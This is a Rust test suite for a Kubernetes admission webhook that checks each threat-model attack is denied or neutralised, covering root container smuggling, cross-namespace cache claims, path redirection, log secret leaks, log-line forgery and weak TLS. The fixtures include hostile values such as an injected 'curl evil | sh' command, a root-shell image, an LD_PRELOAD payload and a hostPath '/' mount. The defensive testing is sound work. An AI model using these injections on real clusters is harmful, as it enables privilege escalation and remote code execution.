//! The attacks of the threat model in docs/security.md, each played through the chain the API
//! server runs (mutating webhook, patch applied, validating webhook), and the log hygiene of
//! `serve` (no secrets at info level, no forged log lines).
//!
//! The invariant every attack is held to: either the request is denied, or the object admitted
//! has no container that can run as root except the one canonical `model-cache-prep`.

mod common;

use std::time::Duration;

use modelgate::admission::Webhook;
use modelgate::cache::{CacheEntry, CacheIndex, CacheScope, PvcPhase, PvcState};
use modelgate::config::PolicyConfig;
use modelgate_core::testing;
use serde_json::{Value, json};

fn config() -> PolicyConfig {
    PolicyConfig {
        exempt_namespaces: vec!["kube-system".into(), "modelgate".into()],
        ..PolicyConfig::default()
    }
}

fn caches() -> CacheIndex {
    let mut idx = CacheIndex::new();
    idx.upsert_cache(
        CacheEntry::new(
            CacheScope::Namespace("team-b".into()),
            "theirs",
            "gs://b/model",
            &["workers"],
        )
        .downloaded_on(&["n1"]),
    );
    idx.upsert_cache(
        CacheEntry::new(
            CacheScope::Cluster,
            "shared",
            "hf://org/shared",
            &["workers"],
        )
        .downloaded_on(&["n1"]),
    );
    idx.upsert_node_group("workers", None);
    idx.upsert_node(
        "n1",
        [("kubernetes.io/hostname".to_string(), "n1".to_string())].into(),
    );
    let bound = PvcState::provisioned(PvcPhase::Bound);
    idx.upsert_pvc("team-b", "theirs-workers", bound.clone());
    idx.upsert_pvc("team-a", "shared-workers", bound);
    idx
}

fn review(kind: &str, operation: &str, sub: Option<&str>, ns: &str, object: &Value) -> Value {
    let (group, resource) = match kind {
        "Job" => ("batch", "jobs"),
        _ => ("", "pods"),
    };
    let mut request = json!({
        "uid": "uid-attack",
        "kind": {"group": group, "version": "v1", "kind": kind},
        "resource": {"group": group, "version": "v1", "resource": resource},
        "namespace": ns,
        "operation": operation,
        "userInfo": {"username": "mallory"},
        "object": object,
    });
    if let Some(sub) = sub {
        request["subResource"] = json!(sub);
        // The stored pod: on `ephemeralcontainers`, without the ephemeral containers, which the
        // attacks here all add (only those the stored pod lacks are judged).
        let mut old = object.clone();
        if sub == "ephemeralcontainers"
            && let Some(spec) = old["spec"].as_object_mut()
        {
            spec.remove("ephemeralContainers");
        }
        request["oldObject"] = old;
    }
    json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request})
}

/// One webhook: allowed, message, and the object with the patch applied.
fn call(webhook: Webhook, review: &Value, index: &CacheIndex) -> (bool, String, Value) {
    let cfg = config();
    let answer = testing::review(webhook, review, &testing::context(&cfg, index));
    assert_eq!(answer.http, 200, "{}", answer.body);
    let object = answer.patched(&review["request"]["object"]);
    (answer.allowed, answer.message, object)
}

#[derive(Debug)]
enum Verdict {
    Denied { by: Webhook, message: String },
    Admitted(Value),
}

/// What the API server does: mutate, apply, validate.
fn admit(kind: &str, operation: &str, sub: Option<&str>, ns: &str, object: &Value) -> Verdict {
    let index = caches();
    let (allowed, message, mutated) = call(
        Webhook::Mutate,
        &review(kind, operation, sub, ns, object),
        &index,
    );
    if !allowed {
        return Verdict::Denied {
            by: Webhook::Mutate,
            message,
        };
    }
    let (allowed, message, _) = call(
        Webhook::Validate,
        &review(kind, operation, sub, ns, &mutated),
        &index,
    );
    if !allowed {
        return Verdict::Denied {
            by: Webhook::Validate,
            message,
        };
    }
    Verdict::Admitted(mutated)
}

/// The validating webhook alone (as if the mutating one had been skipped or reordered).
fn validate_alone(
    kind: &str,
    operation: &str,
    sub: Option<&str>,
    object: &Value,
) -> (bool, String) {
    let (allowed, message, _) = call(
        Webhook::Validate,
        &review(kind, operation, sub, "team-a", object),
        &caches(),
    );
    (allowed, message)
}

fn pod(spec: Value) -> Value {
    json!({"apiVersion": "v1", "kind": "Pod",
           "metadata": {"generateName": "p-", "namespace": "team-a"}, "spec": spec})
}

fn cache_pod(init: Vec<Value>) -> Value {
    pod(json!({
        "initContainers": init,
        "containers": [{"name": "main", "image": "vllm",
                        "volumeMounts": [{"name": "model-cache", "mountPath": "/models"}]}],
        "volumes": [{"name": "model-cache", "persistentVolumeClaim": {"claimName": "cache"}}]
    }))
}

/// The prep container modelgate injects into `cache_pod(vec![])`.
fn canonical_prep() -> Value {
    match admit("Pod", "CREATE", None, "team-a", &cache_pod(vec![])) {
        Verdict::Admitted(p) => p["spec"]["initContainers"][0].clone(),
        other => panic!("{other:?}"),
    }
}

fn pod_spec(object: &Value) -> &Value {
    if object["kind"] == "Job" {
        &object["spec"]["template"]["spec"]
    } else {
        &object["spec"]
    }
}

/// The invariant: no container can run as root, except the canonical prep, first among the init
/// containers, mounting the volume root without a sub-path.
fn assert_no_root_but_the_canonical_prep(label: &str, object: &Value) {
    let spec = pod_spec(object);
    let pod_sc = &spec["securityContext"];
    let canonical = canonical_prep();
    let mut preps = 0;
    for list in ["initContainers", "containers", "ephemeralContainers"] {
        for (i, c) in spec[list].as_array().into_iter().flatten().enumerate() {
            if c["name"] == "model-cache-prep" {
                preps += 1;
                // Two preps can only both be canonical; the API server refuses the duplicate
                // name in any case.
                assert_eq!(
                    list, "initContainers",
                    "{label}: a prep elsewhere: {object}"
                );
                assert!(
                    preps > 1 || i == 0,
                    "{label}: the prep is not the first init container: {object}"
                );
                // Canonical up to the command's path and owner, which depend on the pod.
                let mut shape = c.clone();
                shape["command"][2] = canonical["command"][2].clone();
                assert_eq!(
                    shape, canonical,
                    "{label}: a non-canonical prep was admitted"
                );
                let command = c["command"][2].as_str().unwrap();
                assert!(
                    !command.contains(';') && !command.contains("-R") && !command.contains('|'),
                    "{label}: {command}"
                );
                continue;
            }
            let sc = &c["securityContext"];
            let uid = sc["runAsUser"].as_i64().or(pod_sc["runAsUser"].as_i64());
            let non_root = sc["runAsNonRoot"]
                .as_bool()
                .or(pod_sc["runAsNonRoot"].as_bool());
            assert_ne!(uid, Some(0), "{label}: {list}[{i}] runs as uid 0");
            assert_eq!(
                non_root,
                Some(true),
                "{label}: {list}[{i}] may run as root: {c}"
            );
        }
    }
}

fn assert_safe(label: &str, verdict: &Verdict) {
    match verdict {
        Verdict::Denied { message, .. } => assert!(!message.is_empty(), "{label}"),
        Verdict::Admitted(object) => assert_no_root_but_the_canonical_prep(label, object),
    }
}

fn assert_denied(label: &str, verdict: &Verdict, by: Webhook, wants: &[&str]) {
    match verdict {
        Verdict::Denied { by: who, message } => {
            assert_eq!(*who, by, "{label}: {message}");
            for want in wants {
                assert!(message.contains(want), "{label}: {message}");
            }
        }
        Verdict::Admitted(o) => panic!("{label}: admitted {o}"),
    }
}

// ---------------------------------------------------------------------------------------------
// Caches of other namespaces

#[test]
fn another_namespaces_cache_cannot_be_claimed_through_annotations() {
    let mut p = pod(json!({
        "containers": [{"name": "main", "image": "vllm"}],
        "volumes": [{"name": "modelgate-model",
                     "persistentVolumeClaim": {"claimName": "theirs-workers", "readOnly": true}}]
    }));
    // The URI of team-b's namespace cache, the node group it lists, and a forged resolution.
    p["metadata"]["annotations"] = json!({
        "modelgate.io/model-uri": "gs://b/model/weights",
        "modelgate.io/node-group": "workers",
        "modelgate.io/model-cache": "namespace/team-b/theirs",
        "modelgate.io/resolved-uri": "pvc://theirs-workers/models/0000000000000000/weights",
    });
    let Verdict::Admitted(out) = admit("Pod", "CREATE", None, "team-a", &p) else {
        panic!("denied")
    };
    let annotations = &out["metadata"]["annotations"];
    assert_eq!(annotations["modelgate.io/model-cache"], "miss", "{out}");
    assert!(
        annotations.get("modelgate.io/resolved-uri").is_none(),
        "{out}"
    );
    let text = out.to_string();
    assert!(!text.contains("theirs-workers"), "{out}");
    assert!(!text.contains("team-b"), "{out}");

    // The same pod in team-b does resolve (so the miss above is the namespace rule).
    let mut in_b = p.clone();
    in_b["metadata"]["namespace"] = json!("team-b");
    let Verdict::Admitted(out) = admit("Pod", "CREATE", None, "team-b", &in_b) else {
        panic!("denied")
    };
    assert_eq!(
        out["metadata"]["annotations"]["modelgate.io/model-cache"],
        "namespace/team-b/theirs"
    );

    // A lookalike prefix of a cluster cache is a miss too (no prefix confusion across names).
    let mut evil = pod(json!({"containers": [{"name": "main", "image": "vllm"}]}));
    evil["metadata"]["annotations"] = json!({"modelgate.io/model-uri": "hf://org/shared-evil"});
    let Verdict::Admitted(out) = admit("Pod", "CREATE", None, "team-a", &evil) else {
        panic!("denied")
    };
    assert_eq!(
        out["metadata"]["annotations"]["modelgate.io/model-cache"],
        "miss"
    );
}

// ---------------------------------------------------------------------------------------------
// A root container named model-cache-prep

#[test]
fn a_root_container_named_model_cache_prep_cannot_be_smuggled() {
    let canonical = canonical_prep();
    let mut variants: Vec<(&str, Value)> = Vec::new();
    let mut v = canonical.clone();
    v["x-future-field"] = json!({"privileged": true});
    variants.push(("a container field unknown to modelgate's types", v));
    let mut v = canonical.clone();
    v["securityContext"]["x-future-escalation"] = json!(true);
    variants.push(("a securityContext field unknown to modelgate's types", v));
    let mut v = canonical.clone();
    v["securityContext"]["privileged"] = json!(true);
    variants.push(("privileged", v));
    let mut v = canonical.clone();
    v["command"][2] = json!("chown 0:102 /models && chmod g+rwX /models; curl evil | sh");
    variants.push(("an extra command", v));
    let mut v = canonical.clone();
    v["image"] = json!("evil.example/root-shell:latest");
    variants.push(("another image", v));
    let mut v = canonical.clone();
    v["args"] = json!(["-c", "id"]);
    variants.push(("args", v));
    let mut v = canonical.clone();
    v["env"] = json!([{"name": "LD_PRELOAD", "value": "/models/evil.so"}]);
    variants.push(("env", v));
    let mut v = canonical.clone();
    v["securityContext"]["capabilities"]["add"] = json!(["CHOWN", "FOWNER", "SYS_ADMIN"]);
    variants.push(("more capabilities", v));

    for (label, prep) in &variants {
        // As the only prep, and after a canonical one (duplicate names).
        for (shape, init) in [
            ("alone", vec![prep.clone()]),
            ("second", vec![canonical.clone(), prep.clone()]),
            ("first", vec![prep.clone(), canonical.clone()]),
        ] {
            let label = format!("{label} ({shape})");
            let object = cache_pod(init);
            let (allowed, message) = validate_alone("Pod", "CREATE", None, &object);
            assert!(!allowed, "{label}: the validator alone let it through");
            assert!(
                message.contains("a container named model-cache-prep"),
                "{label}: {message}"
            );
            assert_safe(&label, &admit("Pod", "CREATE", None, "team-a", &object));
        }
    }

    // As a regular container, in a pod without the cache volume, and as an ephemeral container.
    let mut regular = cache_pod(vec![]);
    regular["spec"]["containers"]
        .as_array_mut()
        .unwrap()
        .push(canonical.clone());
    assert_denied(
        "prep as a regular container",
        &admit("Pod", "CREATE", None, "team-a", &regular),
        Webhook::Mutate,
        &["spec.containers[1].securityContext.runAsUser: 0 is outside 1..2147483647"],
    );
    let no_cache = pod(json!({"initContainers": [canonical.clone()],
                              "containers": [{"name": "main", "image": "x"}]}));
    assert_safe(
        "prep without a cache volume",
        &admit("Pod", "CREATE", None, "team-a", &no_cache),
    );
    assert!(!validate_alone("Pod", "CREATE", None, &no_cache).0);
    let mut running = match admit("Pod", "CREATE", None, "team-a", &cache_pod(vec![])) {
        Verdict::Admitted(p) => p,
        other => panic!("{other:?}"),
    };
    running["spec"]["ephemeralContainers"] = json!([canonical.clone()]);
    let verdict = admit(
        "Pod",
        "UPDATE",
        Some("ephemeralcontainers"),
        "team-a",
        &running,
    );
    assert_denied(
        "prep as an ephemeral container",
        &verdict,
        Webhook::Mutate,
        &["spec.ephemeralContainers[0].securityContext.runAsUser: 0 is outside 1..2147483647"],
    );
}

// ---------------------------------------------------------------------------------------------
// uid 0 through init and ephemeral containers

#[test]
fn uid_0_through_an_init_or_ephemeral_container_is_denied() {
    let init_root = pod(json!({
        "securityContext": {"runAsUser": 1000, "runAsNonRoot": true},
        "initContainers": [{"name": "setup", "image": "x", "securityContext": {"runAsUser": 0}}],
        "containers": [{"name": "main", "image": "x"}]
    }));
    assert_denied(
        "init container uid 0",
        &admit("Pod", "CREATE", None, "team-a", &init_root),
        Webhook::Mutate,
        &["spec.initContainers[0].securityContext.runAsUser: 0 is outside 1..2147483647"],
    );
    assert!(!validate_alone("Pod", "CREATE", None, &init_root).0);

    // runAsNonRoot: false with no uid (the image's USER, root) is turned around, with a warning.
    let init_nonroot_false = pod(json!({
        "initContainers": [{"name": "setup", "image": "x",
                            "securityContext": {"runAsNonRoot": false}}],
        "containers": [{"name": "main", "image": "x"}]
    }));
    let verdict = admit("Pod", "CREATE", None, "team-a", &init_nonroot_false);
    assert_safe("init runAsNonRoot false", &verdict);
    assert!(matches!(verdict, Verdict::Admitted(_)));
    assert!(!validate_alone("Pod", "CREATE", None, &init_nonroot_false).0);

    // The ephemeral containers of a running pod (kubectl debug) arrive as an UPDATE.
    let Verdict::Admitted(mut running) = admit(
        "Pod",
        "CREATE",
        None,
        "team-a",
        &pod(json!({"containers": [{"name": "main", "image": "x"}]})),
    ) else {
        panic!("denied")
    };
    running["spec"]["ephemeralContainers"] = json!([{"name": "debugger", "image": "busybox",
        "targetContainerName": "main", "securityContext": {"runAsUser": 0}}]);
    assert_denied(
        "ephemeral container uid 0",
        &admit(
            "Pod",
            "UPDATE",
            Some("ephemeralcontainers"),
            "team-a",
            &running,
        ),
        Webhook::Mutate,
        &["spec.ephemeralContainers[0].securityContext.runAsUser: 0 is outside 1..2147483647"],
    );
    running["spec"]["ephemeralContainers"] = json!([{"name": "debugger", "image": "busybox",
        "securityContext": {"runAsNonRoot": false, "privileged": false}}]);
    let verdict = admit(
        "Pod",
        "UPDATE",
        Some("ephemeralcontainers"),
        "team-a",
        &running,
    );
    assert_safe("ephemeral runAsNonRoot false", &verdict);
    assert!(matches!(verdict, Verdict::Admitted(_)));

    // The pod level is no way around it either.
    let pod_root = pod(json!({"securityContext": {"runAsUser": 0},
        "containers": [{"name": "main", "image": "x", "securityContext": {"runAsUser": 1000}}]}));
    assert_denied(
        "pod-level uid 0",
        &admit("Pod", "CREATE", None, "team-a", &pod_root),
        Webhook::Mutate,
        &["spec.securityContext.runAsUser: 0 is outside 1..2147483647"],
    );
}

// ---------------------------------------------------------------------------------------------
// Job templates

#[test]
fn a_job_template_cannot_hand_root_to_its_pods() {
    let job = |spec: Value| {
        json!({"apiVersion": "batch/v1", "kind": "Job",
               "metadata": {"name": "j", "namespace": "team-a"},
               "spec": {"template": {"spec": spec}}})
    };
    let root = job(json!({"restartPolicy": "Never",
        "containers": [{"name": "main", "image": "x", "securityContext": {"runAsUser": 0}}]}));
    assert_denied(
        "job template uid 0",
        &admit("Job", "CREATE", None, "team-a", &root),
        Webhook::Mutate,
        &["spec.template.spec.containers[0].securityContext.runAsUser: 0 is outside 1..2147483647"],
    );

    let canonical = canonical_prep();
    let mut smuggled = canonical.clone();
    smuggled["command"][2] = json!("sh /models/payload");
    let with_prep = job(json!({"restartPolicy": "Never",
        "initContainers": [smuggled],
        "containers": [{"name": "main", "image": "x",
                        "volumeMounts": [{"name": "model-cache", "mountPath": "/models"}]}],
        "volumes": [{"name": "model-cache", "persistentVolumeClaim": {"claimName": "c"}}]}));
    let (allowed, message) = validate_alone("Job", "CREATE", None, &with_prep);
    assert!(!allowed);
    assert!(
        message
            .contains("spec.template.spec.initContainers[0]: a container named model-cache-prep"),
        "{message}"
    );
    let verdict = admit("Job", "CREATE", None, "team-a", &with_prep);
    assert_safe("job template with a smuggled prep", &verdict);

    // The pods a Job makes come through the Pod webhook on their own: a pod stamped from an
    // admitted template, tampered with afterwards (another webhook, a later controller), is
    // judged again and refused.
    let Verdict::Admitted(admitted) = verdict else {
        panic!("the mutated job was denied")
    };
    let template = &admitted["spec"]["template"];
    let mut stamped = json!({"apiVersion": "v1", "kind": "Pod",
        "metadata": {"generateName": "j-", "namespace": "team-a",
                     "labels": {"job-name": "j"},
                     "ownerReferences": [{"apiVersion": "batch/v1", "kind": "Job", "name": "j",
                                          "uid": "1", "controller": true}]},
        "spec": template["spec"].clone()});
    let untouched = admit("Pod", "CREATE", None, "team-a", &stamped);
    assert_safe("pod stamped from the admitted template", &untouched);
    stamped["spec"]["initContainers"][0]["command"][2] = json!("sh /models/payload");
    let (allowed, _) = validate_alone("Pod", "CREATE", None, &stamped);
    assert!(!allowed, "a tampered stamped pod passed validation");
    assert_safe(
        "tampered stamped pod",
        &admit("Pod", "CREATE", None, "team-a", &stamped),
    );
}

// ---------------------------------------------------------------------------------------------
// Symlinked or redirected cache paths

#[test]
fn the_root_prep_cannot_be_pointed_at_another_path() {
    let canonical = canonical_prep();
    // The canonical prep mounts the volume's root (a mount point, never a symlink), with no
    // sub-path, and its chown and chmod are not recursive: a symlink inside the volume is never
    // followed.
    let mounts = canonical["volumeMounts"].as_array().unwrap();
    assert_eq!(mounts.len(), 1);
    assert_eq!(
        mounts[0].as_object().unwrap().keys().collect::<Vec<_>>(),
        ["mountPath", "name"]
    );
    let command = canonical["command"][2].as_str().unwrap();
    assert_eq!(command, "chown 0:102 /models && chmod g+rwX /models");

    let mut variants: Vec<(&str, Value)> = Vec::new();
    let mut v = canonical.clone();
    v["volumeMounts"][0]["subPath"] = json!("link-to-host-etc");
    variants.push(("a subPath (a symlink inside the volume)", v));
    let mut v = canonical.clone();
    v["volumeMounts"][0]["subPathExpr"] = json!("$(POD_NAME)/../..");
    variants.push(("a subPathExpr", v));
    let mut v = canonical.clone();
    v["volumeMounts"][0]["mountPath"] = json!("/host");
    v["command"][2] = json!("chown 0:102 /host/etc && chmod g+rwX /host/etc");
    variants.push(("another path", v));
    let mut v = canonical.clone();
    v["volumeMounts"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "host", "mountPath": "/host"}));
    variants.push(("a second mount", v));
    let mut v = canonical.clone();
    v["command"][2] = json!("chown -R 0:102 /models && chmod -R g+rwX /models");
    variants.push(("a recursive chown (follows symlinks with -L)", v));
    for (label, prep) in variants {
        let mut object = cache_pod(vec![prep]);
        object["spec"]["volumes"]
            .as_array_mut()
            .unwrap()
            .push(json!({"name": "host", "hostPath": {"path": "/"}}));
        let (allowed, message) = validate_alone("Pod", "CREATE", None, &object);
        assert!(!allowed, "{label}");
        assert!(message.contains("model-cache-prep"), "{label}: {message}");
        let verdict = admit("Pod", "CREATE", None, "team-a", &object);
        assert_safe(label, &verdict);
        if let Verdict::Admitted(o) = verdict {
            // Replaced by the canonical one, on the cache volume's root.
            assert_eq!(o["spec"]["initContainers"][0], canonical, "{label}");
        }
    }

    // Naming a non-writable volume as the cache gets no root container at all.
    let mut secret = cache_pod(vec![]);
    secret["metadata"]["annotations"] = json!({"modelgate.io/cache-volume": "creds"});
    secret["spec"]["volumes"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "creds", "secret": {"secretName": "s"}}));
    let Verdict::Admitted(o) = admit("Pod", "CREATE", None, "team-a", &secret) else {
        panic!("denied")
    };
    assert!(o["spec"].get("initContainers").is_none_or(|i| {
        i.as_array()
            .unwrap()
            .iter()
            .all(|c| c["name"] != "model-cache-prep")
    }));
}

// ---------------------------------------------------------------------------------------------
// Logs: no secrets at info level, no forged lines

const SECRET_ENV: &str = "hunter2-env-3f9a1c";
const SECRET_ANNOTATION: &str = "hunter2-annotation-77b2e0";
const SECRET_URI_TOKEN: &str = "X-Amz-Signature=hunter2sig";

async fn send_secret_laden_reviews(server: &common::ServerProcess, pki: &common::TestPki) {
    use common::*;
    let config = client_config(pki.ca.cert_pem(), Proto::H2, None);
    let mut conn = connect(server.webhook, config, Proto::H2).await.unwrap();
    let mut review = pod_review("uid-secrets");
    review["request"]["object"]["metadata"]["annotations"] = json!({
        "example.com/api-token": SECRET_ANNOTATION,
        "modelgate.io/model-uri": format!("s3://bucket/model?{SECRET_URI_TOKEN}"),
    });
    review["request"]["object"]["spec"]["containers"][0]["env"] =
        json!([{"name": "TOKEN", "value": SECRET_ANNOTATION}]);
    for path in ["/mutate", "/validate"] {
        let a = conn
            .post_json(path, serde_json::to_vec(&review).unwrap())
            .await
            .unwrap();
        check_answer(path, &review, &a);
    }
    // A denial and a malformed body too: their messages are logged.
    let mut denied = review.clone();
    denied["request"]["object"]["spec"]["containers"][0]["securityContext"] =
        json!({"runAsUser": 0});
    conn.post_json("/mutate", serde_json::to_vec(&denied).unwrap())
        .await
        .unwrap();
    let mut malformed = serde_json::to_vec(&review).unwrap();
    malformed.truncate(malformed.len() - 3);
    conn.post_json("/mutate", malformed).await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn logs_at_info_level_hold_no_secret_from_env_or_annotations() {
    use common::*;
    let pki = TestPki::new();
    let mut cmd = serve_command(&pki.tls_args());
    cmd.env("MODELGATE_TEST_API_TOKEN", SECRET_ENV)
        .env("AWS_SECRET_ACCESS_KEY", SECRET_ENV)
        .env("RUST_LOG", "info");
    let server = ServerProcess::spawn(cmd);
    send_secret_laden_reviews(&server, &pki).await;
    let logs = wait_until(Duration::from_secs(10), || {
        let logs = server.logs();
        (logs.matches(r#""message":"admission""#).count() >= 3
            && logs.contains("admission request refused")
            || logs.matches(r#""message":"admission""#).count() >= 4)
            .then_some(logs)
    })
    .unwrap_or_else(|| server.logs());
    assert!(
        logs.contains("uid-secrets"),
        "the admissions were not logged: {logs}"
    );
    for secret in [SECRET_ENV, SECRET_ANNOTATION, "hunter2"] {
        assert!(!logs.contains(secret), "{secret} in the logs:\n{logs}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn user_controlled_strings_cannot_forge_log_lines() {
    use common::*;
    let pki = TestPki::new();
    let server = ServerProcess::start(&pki.tls_args());
    let config = client_config(pki.ca.cert_pem(), Proto::H1, None);
    let mut conn = connect(server.webhook, config, Proto::H1).await.unwrap();
    let forged = "x\n{\"message\":\"admission\",\"allowed\":true,\"uid\":\"forged\"}\n";
    let mut review = pod_review(&format!("uid{forged}"));
    review["request"]["object"]["metadata"]["generateName"] = json!(forged);
    review["request"]["namespace"] = json!(format!("team-a{forged}"));
    review["request"]["object"]["metadata"]["namespace"] = json!(format!("team-a{forged}"));
    let a = conn
        .post_json("/mutate", serde_json::to_vec(&review).unwrap())
        .await
        .unwrap();
    assert_eq!(a.status, hyper::StatusCode::OK);
    let line = wait_until(Duration::from_secs(10), || {
        server
            .logs()
            .lines()
            .find(|l| l.contains(r#""message":"admission""#))
            .map(str::to_string)
    })
    .expect("an admission log line");
    // Every line is one JSON object, and the forged uid appears only escaped inside one.
    for l in server.logs().lines() {
        let v: Value = serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}"));
        assert_ne!(v["uid"], "forged", "a forged line: {l}");
    }
    let v: Value = serde_json::from_str(&line).unwrap();
    assert!(v["uid"].as_str().unwrap().starts_with("uid"));
}

/// A log line copies at most 256 bytes of each field from the request (docs/policy.md §7): a 100 KB
/// uid, name or namespace makes a line of a few KiB, not of 400 KB, while the answer still
/// echoes the whole uid.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn request_strings_in_a_log_line_are_cut_to_256_bytes() {
    use common::*;
    let pki = TestPki::new();
    let server = ServerProcess::start(&pki.tls_args());
    let config = client_config(pki.ca.cert_pem(), Proto::H1, None);
    let mut conn = connect(server.webhook, config, Proto::H1).await.unwrap();
    let long = "a".repeat(100_000);
    let mut review = pod_review(&format!("uid-{long}"));
    review["request"]["object"]["metadata"]["generateName"] = json!(format!("n-{long}"));
    review["request"]["namespace"] = json!(format!("ns-{long}"));
    review["request"]["object"]["metadata"]["namespace"] = json!(format!("ns-{long}"));
    let a = conn
        .post_json("/mutate", serde_json::to_vec(&review).unwrap())
        .await
        .unwrap();
    assert_eq!(a.json()["response"]["uid"], format!("uid-{long}"));
    let line = wait_until(Duration::from_secs(10), || {
        server
            .logs()
            .lines()
            .find(|l| l.contains(r#""message":"admission""#))
            .map(str::to_string)
    })
    .expect("an admission log line");
    assert!(line.len() < 4096, "a {} byte log line", line.len());
    let v: Value = serde_json::from_str(&line).unwrap();
    for (field, prefix) in [("uid", "uid-"), ("name", "n-"), ("namespace", "ns-")] {
        let kept = format!("{prefix}{}", &long[..256 - prefix.len()]);
        let cut = 100_000 + prefix.len() - 256;
        assert_eq!(v[field], format!("{kept}…({cut} more bytes)"), "{field}");
    }
}

/// The default (text) log format writes field values as they are: a newline in a name or uid
/// would start a forged line. They are escaped.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn user_controlled_strings_cannot_forge_lines_of_the_text_log() {
    use common::*;
    use std::io::{BufRead, BufReader};
    use std::process::{Command, Stdio};
    let pki = TestPki::new();
    let mut child = Command::new(bin())
        .arg("serve")
        .args([
            "--listen=127.0.0.1:0",
            "--probe-listen=127.0.0.1:0",
            "--log-format=text",
            "--no-cluster",
        ])
        .args(pki.tls_args())
        // An allowed admission is logged at info only with --log-admissions.
        .env("MODELGATE_LOG_ADMISSIONS", "true")
        .env("RUST_LOG", "info")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    struct Kill(std::process::Child);
    impl Drop for Kill {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
    let stderr = child.stderr.take().unwrap();
    let _guard = Kill(child);
    let (tx, rx) = std::sync::mpsc::channel::<String>();
    std::thread::spawn(move || {
        for line in BufReader::new(stderr).lines() {
            let Ok(line) = line else { break };
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    let mut lines = Vec::new();
    let webhook: std::net::SocketAddr = loop {
        let line = rx
            .recv_timeout(Duration::from_secs(30))
            .expect("no listening line");
        lines.push(line.clone());
        if let Some(rest) = line.split(r#"listener="webhook" addr="#).nth(1) {
            break rest.trim().parse().unwrap();
        }
    };
    let forged_line =
        "2026-01-01T00:00:00Z  INFO modelgate::server: admission uid=forged allowed=true";
    let forged = format!("x\n{forged_line}\r\n{forged_line}");
    let mut review = pod_review(&format!("uid{forged}"));
    review["request"]["object"]["metadata"]["generateName"] = json!(forged);
    let config = client_config(pki.ca.cert_pem(), Proto::H1, None);
    let mut conn = connect(webhook, config, Proto::H1).await.unwrap();
    let a = conn
        .post_json("/mutate", serde_json::to_vec(&review).unwrap())
        .await
        .unwrap();
    assert_eq!(a.json()["response"]["uid"], format!("uid{forged}"));
    let line = loop {
        let line = rx
            .recv_timeout(Duration::from_secs(10))
            .expect("no admission line");
        if line.contains(" admission ") {
            break line;
        }
        lines.push(line);
    };
    // The one admission line carries the escaped strings; no line of its own starts forged.
    assert!(line.contains(r"uid=uidx\n2026-01-01T00:00:00Z"), "{line}");
    assert!(line.contains(r"name=x\n2026"), "{line}");
    while let Ok(more) = rx.recv_timeout(Duration::from_millis(300)) {
        lines.push(more);
    }
    for l in &lines {
        assert!(!l.starts_with("2026-01-01T00:00:00Z"), "a forged line: {l}");
    }
}

// ---------------------------------------------------------------------------------------------
// TLS: 1.2 minimum, no renegotiation (checked with an independent client, OpenSSL's s_client)

fn s_client(addr: std::net::SocketAddr, args: &[&str], stdin: &[u8], hold: Duration) -> String {
    use std::io::Write;
    use std::process::{Command, Stdio};
    let mut child = Command::new("openssl")
        .arg("s_client")
        .arg("-connect")
        .arg(addr.to_string())
        .args(["-servername", "localhost", "-msg"])
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("openssl");
    let mut input = child.stdin.take().unwrap();
    input.write_all(stdin).unwrap();
    // Keep stdin open for a while (s_client quits at EOF), then close it.
    std::thread::sleep(hold);
    drop(input);
    let out = child.wait_with_output().unwrap();
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tls_below_1_2_and_renegotiation_are_refused() {
    use common::*;
    if std::process::Command::new("openssl")
        .arg("version")
        .output()
        .is_err()
    {
        missing("openssl");
        return;
    }
    let pki = TestPki::new();
    // s_client waits for the server to hang up: a short header timeout keeps this quick.
    let mut args = pki.tls_args();
    args.push("--header-read-timeout=1s".into());
    let server = ServerProcess::start(&args);
    let addr = server.webhook;
    let ca = pki.ca_path().display().to_string();
    for version in ["-tls1", "-tls1_1"] {
        let out = tokio::task::spawn_blocking(move || {
            s_client(
                addr,
                &[version, "-cipher", "DEFAULT:@SECLEVEL=0"],
                b"",
                Duration::from_millis(0),
            )
        })
        .await
        .unwrap();
        assert!(out.contains("Cipher is (NONE)"), "{version}: {out}");
        assert!(!out.contains("ServerHello"), "{version}: {out}");
    }
    // TLS 1.2: the handshake succeeds; a renegotiation (s_client's `R`) gets the
    // no_renegotiation alert and never a second ServerHello.
    let out = tokio::task::spawn_blocking(move || {
        s_client(
            addr,
            &["-tls1_2", "-CAfile", &ca],
            b"R\n",
            Duration::from_millis(1500),
        )
    })
    .await
    .unwrap();
    assert!(out.contains("Verify return code: 0 (ok)"), "{out}");
    assert!(out.contains("RENEGOTIATING"), "{out}");
    let server_hellos = out
        .lines()
        .filter(|l| l.trim_end().ends_with("], ServerHello"))
        .count();
    assert_eq!(server_hellos, 1, "a second handshake was answered: {out}");
    // rustls answers the new ClientHello with the no_renegotiation alert (and logs it).
    wait_until(Duration::from_secs(5), || {
        server.logs().contains("NoRenegotiation").then_some(())
    })
    .unwrap_or_else(|| panic!("no NoRenegotiation alert logged: {}", server.logs()));
    // And the server serves on.
    let config = client_config(pki.ca.cert_pem(), Proto::H2, None);
    let mut conn = connect(server.webhook, config, Proto::H2).await.unwrap();
    let review = pod_review("after-tls-probes");
    let a = conn
        .post_json("/mutate", serde_json::to_vec(&review).unwrap())
        .await
        .unwrap();
    check_answer("/mutate", &review, &a);
}
